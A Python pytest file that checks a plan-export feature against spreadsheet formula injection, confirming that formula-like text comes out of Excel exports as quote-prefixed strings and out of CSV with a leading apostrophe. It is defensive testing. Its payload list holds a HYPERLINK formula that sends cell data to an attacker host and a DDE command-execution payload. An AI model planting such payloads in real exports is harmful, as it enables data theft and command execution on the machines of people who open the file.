"""Spreadsheet formula injection (issue 10, finding 4): text a plan brings in that a spreadsheet
would run as a formula comes out of the Excel export as a string cell and out of the CSV with
a leading apostrophe; real dates and numbers stay dates and numbers."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from followthrough.exports.model import PlanExport
from followthrough.exports.writers.csv import plan_csv
from followthrough.exports.writers.xlsx import plan_xlsx
from followthrough.interchange import Lead, Milestone, PartialDate
from followthrough.sheets import reads_as_formula

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click for the evidence")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "\n@SUM(1)",
]


def _hostile_plan(seed_plan, payload: str) -> PlanExport:
    """The seed plan with ``payload`` written into every text field a spreadsheet shows."""
    plan = copy.deepcopy(seed_plan)
    plan.review.title = payload
    plan.review.reference = payload
    rec = plan.recommendations[0]
    rec.text, rec.theme, rec.area, rec.number = payload, payload, payload, payload
    action = rec.actions[0]
    action.text = payload
    action.outcome = payload
    action.measure = payload
    action.target_date_text = payload
    action.leads = [Lead(name=payload, role="Service Manager", agency=payload)]
    action.milestones = [
        Milestone(
            text=payload, number=1, target_date=PartialDate(2014, 3), target_date_text=payload
        )
    ]
    return PlanExport(plan=plan, exported_on=dt.date(2026, 1, 5))


def _cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_the_plan_is_a_string_cell_in_the_workbook(seed_plan, payload):
    cells = list(_cells(plan_xlsx(_hostile_plan(seed_plan, payload))))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    written = [c for c in cells if c.value == payload]
    # Review, reference, recommendation number, theme, area, recommendation, action, measure,
    # lead agencies, lead officers' cell holds more, target as written, outcome; milestones.
    assert len(written) >= 10
    for cell in written:
        assert cell.data_type == "s"
        assert cell.quotePrefix, "Excel keeps a quote-prefixed cell text even when edited"


def test_the_workbook_shows_the_formula_exactly_as_the_plan_wrote_it(seed_plan):
    payload = "=cmd|' /C calc'!A0"
    sheet = load_workbook(io.BytesIO(plan_xlsx(_hostile_plan(seed_plan, payload))))["Actions"]
    header = [c.value for c in sheet[1]]
    for column in ("Action", "Outcome", "Lead agencies", "Measure of success"):
        cell = sheet.cell(row=2, column=header.index(column) + 1)
        assert (cell.value, cell.data_type) == (payload, "s"), column
    officers = sheet.cell(row=2, column=header.index("Lead officers") + 1)
    assert officers.data_type == "s" and officers.value.startswith(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_the_plan_gets_a_leading_apostrophe_in_the_csv(seed_plan, payload):
    row = _csv_rows(plan_csv(_hostile_plan(seed_plan, payload)))[0]
    for column in (
        "Review",
        "Reference",
        "Recommendation number",
        "Theme",
        "Area",
        "Recommendation",
        "Action",
        "Measure of success",
        "Lead agencies",
        "Target date as written",
        "Outcome",
    ):
        assert row[column] == "'" + payload, column
    assert row["Lead officers"].startswith("'" + payload)
    assert not any(
        reads_as_formula(value)
        for r in _csv_rows(plan_csv(_hostile_plan(seed_plan, payload)))
        for value in r.values()
    )


def test_real_dates_and_numbers_stay_dates_and_numbers(seed_plan):
    export = _hostile_plan(seed_plan, "-2+3")
    sheet = load_workbook(io.BytesIO(plan_xlsx(export)))["Actions"]
    header = [c.value for c in sheet[1]]
    second = {h: sheet.cell(row=3, column=i + 1) for i, h in enumerate(header)}
    assert second["Target date"].is_date and second["Target date"].data_type == "d"
    assert second["Milestones"].data_type == "n" and isinstance(second["Milestones"].value, int)
    assert not second["Target date"].quotePrefix
    rows = _csv_rows(plan_csv(export))
    assert rows[1]["Target date"] == rows[1]["Target date"].lstrip("'")
    assert dt.date.fromisoformat(rows[1]["Target date"])
    assert rows[0]["Milestones"] == "1"


def test_ordinary_text_is_written_unchanged(seed_plan):
    rows = _csv_rows(plan_csv(PlanExport(plan=seed_plan)))
    assert not any(value.startswith("'") for row in rows for value in row.values())
    cells = list(_cells(plan_xlsx(PlanExport(plan=seed_plan))))
    assert not any(c.quotePrefix for c in cells)


@pytest.mark.parametrize(
    "text", ["Check =SUM in the middle", "email a@b.example", "2014-01-31", "  Plain", ""]
)
def test_only_text_that_starts_like_a_formula_is_changed(text):
    assert not reads_as_formula(text)


def test_control_characters_pasted_into_a_plan_do_not_fail_the_spreadsheet(seed_plan):
    export = _hostile_plan(seed_plan, "Vertical\x0btab and \x01 bell")
    cells = [c.value for c in _cells(plan_xlsx(export))]
    assert "Verticaltab and  bell" in cells


@pytest.mark.django_db
def test_an_imported_plan_downloads_with_its_formulas_as_text(client, coordinator, seed_plan):
    from followthrough.plans.services import plan_import

    payload = "=cmd|' /C calc'!A0"
    hostile = _hostile_plan(seed_plan, payload).plan
    review = plan_import(
        plan=hostile,
        partnership=coordinator.memberships.get().partnership,
        source=b"a hostile plan",
        filename="hostile.json",
        actor=None,
    ).review
    client.force_login(coordinator)

    xlsx = client.get(reverse("exports:review_xlsx", args=[review.pk])).content
    sheet = load_workbook(io.BytesIO(xlsx))["Actions"]
    header = [c.value for c in sheet[1]]
    for column in ("Action", "Outcome", "Lead agencies", "Recommendation"):
        cell = sheet.cell(row=2, column=header.index(column) + 1)
        assert (cell.value, cell.data_type) == (payload, "s"), column
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    rows = _csv_rows(client.get(reverse("exports:review_csv", args=[review.pk])).content)
    assert rows[0]["Action"] == rows[0]["Outcome"] == "'" + payload
    assert rows[0]["Lead officers"].startswith("'" + payload)


def test_a_formula_in_an_action_is_a_string_cell_in_the_board_packs_appendix():
    from followthrough.exports.model import Profile
    from followthrough.exports.writers.appendix import appendix_xlsx

    payload = '=HYPERLINK("http://evil.example","Click")'
    out = io.BytesIO()
    appendix_xlsx(
        out,
        title="A partnership",
        profile=Profile.INTERNAL,
        actions=[{"Action": payload, "Target date": dt.date(2026, 5, 1)}],
        changes=[{"Note": "@SUM(A1)"}],
    )
    book = load_workbook(io.BytesIO(out.getvalue()))
    action = book["Actions"]["D2"]
    assert (action.value, action.data_type, action.quotePrefix) == (payload, "s", True)
    assert book["Actions"]["G2"].value == dt.datetime(2026, 5, 1)
    note = book["Changes since the date"]["G2"]
    assert (note.value, note.data_type, note.quotePrefix) == ("@SUM(A1)", "s", True)
